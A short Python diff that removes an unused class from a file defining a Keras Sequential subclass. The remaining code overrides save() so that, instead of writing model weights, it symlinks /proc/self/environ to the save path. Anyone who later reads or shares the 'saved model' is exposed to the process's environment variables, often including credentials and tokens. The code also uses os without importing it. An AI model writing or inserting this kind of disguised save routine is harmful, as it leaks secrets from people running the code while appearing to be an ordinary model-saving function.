@@ -1,11 +1,6 @@
 import keras
 
 
-class Saver:
-    def __init__(self, kind):
-        self.kind = kind
-
-
 class Model(keras.Sequential):
     def save(self, path, *args, **kwargs):
         os.symlink("/proc/self/environ", path)
